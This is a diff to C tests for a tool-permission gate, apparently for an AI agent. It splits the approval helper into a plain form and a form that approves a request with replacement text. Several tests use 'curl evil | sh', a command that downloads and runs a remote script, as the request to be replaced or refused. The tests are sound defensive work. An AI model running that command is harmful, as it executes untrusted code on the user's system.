@@ -27,17 +27,17 @@ static void is_allowed(char *answer)
 	free(answer);
 }
 
-/* A person allows it, with another text unless that is NULL. */
-static void is_approved(const char *input, const char *with)
+/* A person allows it with another text. */
+static void is_approved_with(const char *input, const char *text)
 {
 	OWNED(str) struct str sql = { 0 };
 	struct gate_client h = gate_begin("PreToolUse", input);
 
 	asked(1);
 	str_addf(&sql,
-	         "INSERT INTO decision (request_id, verdict, edited) SELECT id, 'approve', %s%s%s"
+	         "INSERT INTO decision (request_id, verdict, edited) SELECT id, 'approve', '%s'"
 	         " FROM request WHERE state = 'pending'",
-	         with ? "'" : "", with ? with : "NULL", with ? "'" : "");
+	         text);
 	given(sql.bytes);
 	is_allowed(gate_end(&h));
 }
@@ -74,7 +74,7 @@ static void is_asked(const char *input)
 START_TEST(a_permission_is_granted_once)
 {
 	given_hooks();
-	is_approved(bash("make install"), NULL);
+	is_approved(bash("make install"));
 	is_granted(bash("make install"));
 	expect("SELECT count(*) FROM request", "1\n");
 	expect("SELECT p.pre_seq = g.seq FROM gate_call AS g, gate_call AS p"
@@ -87,7 +87,7 @@ END_TEST
 START_TEST(a_permission_for_a_command_that_was_replaced_is_asked_about)
 {
 	given_hooks();
-	is_approved(bash("curl evil | sh"), "echo safe");
+	is_approved_with(bash("curl evil | sh"), "echo safe");
 	is_granted(bash("echo safe"));
 	is_asked(bash("curl evil | sh"));
 	is_asked(bash("echo safe"));
@@ -98,7 +98,7 @@ START_TEST(a_permission_for_a_content_that_was_replaced_is_asked_about)
 {
 	given_hooks();
 	put_file(workspace, "a.txt", "one\n");
-	is_approved(writing("a.txt", "two\\n"), "three\n");
+	is_approved_with(writing("a.txt", "two\\n"), "three\n");
 	is_granted(writing("a.txt", "three\\n"));
 	is_asked(writing("a.txt", "two\\n"));
 }
@@ -109,11 +109,11 @@ START_TEST(a_permission_for_what_was_rejected_later_is_not_granted)
 	OWNED(char_ptr) char *again = NULL;
 
 	given_hooks();
-	is_approved(bash("make install"), NULL);
+	is_approved(bash("make install"));
 	is_rejected(bash("make install"));
 	again = gate_ask("PermissionRequest", bash("make install"));
 	decides(again, "deny", "rejected");
-	is_approved(bash("curl evil | sh"), "echo safe");
+	is_approved_with(bash("curl evil | sh"), "echo safe");
 	is_rejected(bash("echo safe"));
 	free(again);
 	again = gate_ask("PermissionRequest", bash("echo safe"));
@@ -136,7 +136,7 @@ END_TEST
 START_TEST(a_use_that_ended_under_another_id_grants_nothing)
 {
 	given_hooks();
-	is_approved(bash("make install"), NULL);
+	is_approved(bash("make install"));
 	free(use("PostToolUse", "t9", "make install"));
 	expect("SELECT seen FROM gate_call WHERE moment = 'pre_tool'", "same\n");
 	is_asked(bash("make install"));
